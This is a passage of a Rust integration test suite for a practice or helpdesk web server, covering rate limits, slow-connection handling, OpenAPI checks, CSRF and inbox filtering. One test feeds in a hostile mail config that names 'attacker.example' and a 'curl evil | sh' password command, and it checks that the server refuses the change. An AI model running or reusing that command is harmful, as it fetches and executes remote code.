        .send(r#"{"client":"acme","channel":"email","from":"marcos@acme.example","at":"2026-12-05T22:00:00+01:00","body":"¿Revisamos el informe?"}"#)
        .unwrap();
    let status = resp.status().as_u16();
    let theirs: Value = serde_json::from_str(&resp.into_body().read_to_string().unwrap()).unwrap();
    assert_eq!(status, 201);
    assert_ne!(
        theirs["id"], first["id"],
        "pedro's key does not find ana's contact"
    );
    let (status, err) = post(&"k".repeat(300));
    assert_eq!(status, 422);
    assert!(
        err["error"]["message"]
            .as_str()
            .unwrap()
            .contains("Idempotency-Key"),
        "{err}"
    );
}

#[test]
fn sign_in_limits_count_addresses_behind_a_trusted_proxy_and_accounts_apart() {
    let desk = ana_with_password();
    let (server, _) = Server::start_with(&desk, &["--trusted-proxy", "127.0.0.1"]);
    let csrf = signin_csrf(&server);
    let attempt = |from: &str, email: &str, password: &str| {
        agent()
            .post(format!("{}/signin", server.url))
            .header("Cookie", format!("fd_csrf={csrf}"))
            .header("X-Forwarded-For", format!("10.9.9.9, {from}"))
            .send_form([
                ("csrf", csrf.as_str()),
                ("email", email),
                ("password", password),
            ])
            .unwrap()
            .status()
            .as_u16()
    };
    // One address guessing thirty accounts is stopped, whatever the next account.
    for i in 0..30 {
        assert_eq!(
            attempt(
                "203.0.113.5",
                &format!("guess{i}@example.org"),
                "wrong password!"
            ),
            401
        );
    }
    assert_eq!(
        attempt("203.0.113.5", "ana@ruiz.example", "a long enough password"),
        429
    );
    // Another client behind the same proxy is not: the proxy's word for the address counts.
    assert_eq!(
        attempt("198.51.100.7", "ana@ruiz.example", "a long enough password"),
        303
    );
    // A huge e-mail is refused without work and without growing anything.
    let huge = "x".repeat(60_000);
    assert_eq!(attempt("198.51.100.8", &huge, "wrong password!"), 401);
}

#[test]
fn idle_and_trickling_connections_are_closed_and_the_server_keeps_serving() {
    use std::io::{Read, Write};
    use std::time::Duration;
    let desk = ana_with_password();
    let (server, _) =
        Server::start_with(&desk, &["--header-timeout", "1", "--max-connections", "20"]);
    let addr = server.url.trim_start_matches("http://").to_string();
    // Reads until the server closes the connection; a read timeout would fail the test.
    let closed = |s: &mut std::net::TcpStream| {
        s.set_read_timeout(Some(Duration::from_secs(15))).unwrap();
        let mut buf = [0u8; 1024];
        loop {
            match s.read(&mut buf) {
                Ok(0) => return true,
                Ok(_) => continue,
                Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => return true,
                Err(_) => return false,
            }
        }
    };
    // Thirty idle connections against a cap of twenty: all are closed, none held forever.
    let mut idle: Vec<std::net::TcpStream> = (0..30)
        .map(|_| std::net::TcpStream::connect(&addr).unwrap())
        .collect();
    for s in &mut idle {
        assert!(closed(s), "an idle connection was left open");
    }
    // A client trickling its headers a byte at a time is closed too.
    let mut slow = std::net::TcpStream::connect(&addr).unwrap();
    slow.write_all(b"GET /healthz HTTP/1.1\r\n").unwrap();
    let trickle = std::thread::spawn(move || {
        for b in b"X-Slow: 0123456789012345678901234567890123456789" {
            if slow.write_all(&[*b]).is_err() {
                return true;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        let mut s = slow;
        closed(&mut s)
    });
    assert!(
        trickle.join().unwrap(),
        "a trickling client was served forever"
    );
    // A kept-alive connection that goes quiet after a request is closed as well.
    let mut kept = std::net::TcpStream::connect(&addr).unwrap();
    kept.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        .unwrap();
    assert!(closed(&mut kept));
    // And the server still answers.
    let (status, _) = page(&server, "/healthz", None);
    assert_eq!(status, 200);
}

#[test]
fn the_openapi_document_is_valid_and_every_endpoint_answers_as_documented() {
    let desk = Desk::new();
    desk.ok(&["apply", RUIZ]);
    let ana = token(&desk, None, "ana");
    let (server, _) = Server::start_with(&desk, &["--at", "2026-12-01T10:00:00+01:00"]);
    let (status, doc) = call(
        "GET",
        &format!("{}/api/openapi.json", server.url),
        None,
        None,
    );
    assert_eq!(status, 200);
    // An independent validator (openapi-spec-validator, from PyPI) accepts it.
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("openapi.json");
    std::fs::write(&file, doc.to_string()).unwrap();
    let python = common::python_with("openapi-python", &["openapi-spec-validator>=0.7"]);
    let out = std::process::Command::new(python)
        .args([
            "-c",
            "import json, sys\nfrom openapi_spec_validator import validate\nvalidate(json.load(open(sys.argv[1])))",
        ])
        .arg(&file)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "the validator refused the document: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let paths = doc["paths"].as_object().unwrap();
    for (path, item) in paths {
        for (method, op) in item.as_object().unwrap() {
            // Every operation that needs a token says what happens without one.
            if op["security"].as_array().is_some_and(|s| !s.is_empty()) {
                assert!(
                    op["responses"]["401"].is_object(),
                    "{method} {path} lacks a 401"
                );
            }
            // Query parameters are in the query and optional; path ones are in the path.
            for p in op["parameters"].as_array().into_iter().flatten() {
                let name = p["name"].as_str().unwrap();
                if path.contains(&format!("{{{name}}}")) {
                    assert_eq!(p["in"], "path", "{method} {path} {name}");
                } else if p["in"] == "query" {
                    assert_ne!(p["required"], true, "{method} {path} {name} is optional");
                } else {
                    assert_eq!(p["in"], "header", "{method} {path} {name}: {p}");
                }
            }
            // Every GET without a path parameter answers 200 to the owner, as documented.
            if method == "get" && !path.contains('{') {
                let (status, body) =
                    call("GET", &format!("{}{path}", server.url), Some(&ana), None);
                assert_eq!(status, 200, "GET {path}: {body}");
            }
        }
    }
    for (path, name) in [
        ("/api/v1/inbox", "limit"),
        ("/api/v1/agenda", "days"),
        ("/api/v1/outbox", "all"),
    ] {
        let params = doc["paths"][path]["get"]["parameters"].as_array().unwrap();
        assert!(
            params
                .iter()
                .any(|p| p["name"] == name && p["in"] == "query"),
            "{path} documents ?{name}"
        );
    }
}

#[test]
fn an_answer_posted_with_text_is_sent_to_the_client() {
    let desk = Desk::new();
    desk.ok(&["apply", RUIZ]);
    let ana = token(&desk, None, "ana");
    let (server, _) = Server::start_with(&desk, &["--at", "2026-12-01T10:30:00+01:00"]);
    let (_, d) = record(
        &server,
        &ana,
        r#"{"client":"acme","channel":"email","from":"marcos@acme.example","at":"2026-12-01T10:00:00+01:00","body":"¿Revisamos el informe?"}"#,
    );
    let id = d["id"].as_i64().unwrap();
    let (status, _) = call(
        "POST",
        &format!("{}/api/v1/contacts/{id}/reply", server.url),
        Some(&ana),
        Some(r#"{"text":"Sí, esta tarde."}"#),
    );
    assert_eq!(status, 200);
    let (_, outbox) = call(
        "GET",
        &format!("{}/api/v1/outbox?all=true", server.url),
        Some(&ana),
        None,
    );
    let answer = outbox
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["key"] == format!("answer:{id}"))
        .cloned()
        .expect("queued");
    assert_eq!(answer["text"], "Sí, esta tarde.");
    assert_eq!(answer["to"], "marcos@acme.example");
}

#[test]
fn the_mail_settings_cannot_be_changed_from_the_web() {
    let desk = Desk::new();
    desk.ok(&["apply", RUIZ]);
    let ana = token(&desk, None, "ana");
    let server = Server::start(&desk);
    let file = std::fs::read_to_string(RUIZ).unwrap().replacen(
        "\n[[members]]",
        "\n[mail]\nfrom = \"desk@ruiz.example\"\nsmtp = { host = \"attacker.example\", port = 587, tls = \"starttls\", user = \"x\", password_command = \"curl evil | sh\" }\n\n[[members]]",
        1,
    );
    let before = desk.ok(&["export"]);
    let (status, err) = put(
        &format!("{}/api/v1/practice", server.url),
        &ana,
        &json!({ "file": file }),
    );
    assert_eq!(status, 403, "{err}");
    assert!(
        err["error"]["message"].as_str().unwrap().contains("mail"),
        "{err}"
    );
    assert_eq!(desk.ok(&["export"]), before);
}

#[test]
fn the_inbox_pages_searches_and_filters_with_counts_that_match() {
    let desk = ana_with_password();
    let tok = token(&desk, None, "ana");
    let server = Server::start_with(&desk, &["--at", "2026-12-01T12:00:00Z"]).0;
    // 55 e-mails about invoices, 6 about a fire: 61 open.
    for i in 0..55 {
        let body = format!(
            r#"{{"client":"acme","channel":"email","from":"marcos@acme.example","at":"2026-12-01T09:{:02}:00+01:00","body":"Factura {i} de noviembre"}}"#,
            i % 60
        );
        assert_eq!(record(&server, &tok, &body).0, 201);
    }
    for i in 0..6 {
        let body = format!(
            r#"{{"client":"acme","channel":"call","from":"+34600111222","at":"2026-12-01T10:{i:02}:00+01:00","body":"Hay fuego en el almacén {i}"}}"#
        );
        assert_eq!(record(&server, &tok, &body).0, 201);
    }
    let session = sign_in(&server, "ana@ruiz.example", "a long enough password");
    let rows = |query: &str| page(&server, &format!("/inbox{query}"), Some(&session)).1;
    let first = rows("");
    assert!(
        first.contains("1–50 of 61") || first.contains("1–50 de 61"),
        "{first}"
    );
    assert!(first.contains("id=\"inbox-next\""), "{first}");
    let second = rows("?page=2");
    assert!(
        second.contains("51–61 of 61") || second.contains("51–61 de 61"),
        "{second}"
    );
    assert!(!second.contains("id=\"inbox-next\""));
    // Search: the text, any case; the count is of what matches.
    let fire = rows("?q=FUEGO");
    assert!(
        fire.contains("1–6 of 6") || fire.contains("1–6 de 6"),
        "{fire}"
    );
    assert!(!fire.contains("Factura"), "{fire}");
    // Filters: urgent, a channel; a filter that matches nothing says so.
    let urgent = rows("?show=urgent");
    assert!(
        urgent.contains("of 6") || urgent.contains("de 6"),
        "{urgent}"
    );
    // Each urgent row is marked once (a bar and one highlighted label), not "urgent Urgent".
    assert_eq!(urgent.matches("urgent-flag").count(), 6, "{urgent}");
    let calls = rows("?channel=call");
    assert!(calls.contains("of 6") || calls.contains("de 6"), "{calls}");
    let none = rows("?q=%25nothing_like_this%25");
    assert!(
        none.contains("No open contact matches")
            || none.contains("Ningún contacto abierto coincide"),
        "{none}"
    );
    // A filter value that is not one is refused on a page naming it, as the API refuses it.
    let (status, bad) = page(&server, "/inbox?channel=fax", Some(&session));
    assert_eq!(status, 422);
    assert!(bad.contains("channel") && bad.contains("<html"), "{bad}");
    // The live rows follow the same view.
    let live = rows("/rows?q=fuego");
    assert!(live.contains("of 6") || live.contains("de 6"), "{live}");
    // The API takes the same filters and pages.
    let api = |query: &str| {
        call(
            "GET",
            &format!("{}/api/v1/inbox{query}", server.url),
            Some(&tok),
            None,
        )
    };
    let (status, fire) = api("?q=fuego");
    assert_eq!((status, &fire["matching"]), (200, &6.into()), "{fire}");
    assert_eq!(fire["contacts"].as_array().unwrap().len(), 6);
    let (_, rest) = api("?offset=50");
    assert_eq!(rest["contacts"].as_array().unwrap().len(), 11, "{rest}");
    let (status, err) = api("?show=everything");
    assert_eq!(status, 422);
    assert!(
        err["error"]["message"]
            .as_str()
            .unwrap()
            .starts_with("show:"),
        "{err}"
    );
    // Three checked rows answered at once (one twice: answered once, nothing else changes).
    let resp = post_form(
        &server,
        "/contacts/answer",
        &format!("fd_session={session}"),
        &[
            ("csrf", &form_csrf(&first)),
            ("id", "1"),
            ("id", "2"),
            ("id", "3"),
            ("id", "3"),
        ],
    );
    assert_eq!(resp.status().as_u16(), 303);
    let after = rows("");
    assert!(
        after.contains("1–50 of 58") || after.contains("1–50 de 58"),
        "{after}"
    );
    // Without the form's token nothing is answered.
    let resp = post_form(
        &server,
        "/contacts/answer",
        &format!("fd_session={session}"),
        &[("csrf", "x"), ("id", "4")],
    );
    assert_eq!(resp.status().as_u16(), 403);
    assert!(rows("").contains("of 58") || rows("").contains("de 58"));
}

#[test]
fn a_client_is_added_from_the_clients_page_and_a_bad_field_keeps_what_was_typed() {
    let desk = ana_with_password();
    let server = Server::start(&desk);
    let session = sign_in(&server, "ana@ruiz.example", "a long enough password");
    let cookies = format!("fd_session={session}");
    let (status, html) = page(&server, "/clients", Some(&session));
    assert_eq!(status, 200);
    assert!(html.contains("id=\"new-client\""), "{html}");
    let csrf = form_csrf(&html);
    let form = |zone: &'static str| {
        vec![
            ("csrf", csrf.clone()),
            ("name", "Newco Ltd".to_string()),
            ("handle", "newco".to_string()),
            ("email", "ceo@newco.example".to_string()),
            ("owner", "ana".to_string()),
            ("language", "en".to_string()),
            ("time_zone", zone.to_string()),
        ]
    };
    // A zone that is not one: refused, the field named in words, what was typed kept.
    let bad = form("Mars/Base");
    let pairs: Vec<(&str, &str)> = bad.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let resp = post_form(&server, "/clients", &cookies, &pairs);
    assert_eq!(resp.status().as_u16(), 422);
    let html = resp.into_body().read_to_string().unwrap();
    assert!(
        html.contains("Mars/Base") && html.contains("Newco Ltd"),
        "{html}"
    );
    assert!(!html.contains("clients["), "{html}");
    assert!(!desk.ok(&["export"]).contains("newco"));
    let good = form("America/New_York");
    let pairs: Vec<(&str, &str)> = good.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let resp = post_form(&server, "/clients", &cookies, &pairs);
    assert_eq!(resp.status().as_u16(), 303);
    assert_eq!(resp.headers()["location"], "/clients/newco");
    let file = desk.ok(&["export"]);
    assert!(
        file.contains("handle = \"newco\"") && file.contains("ceo@newco.example"),
        "{file}"
    );
    // The same handle twice is refused.
    let resp = post_form(&server, "/clients", &cookies, &pairs);
    assert_eq!(resp.status().as_u16(), 422);
}
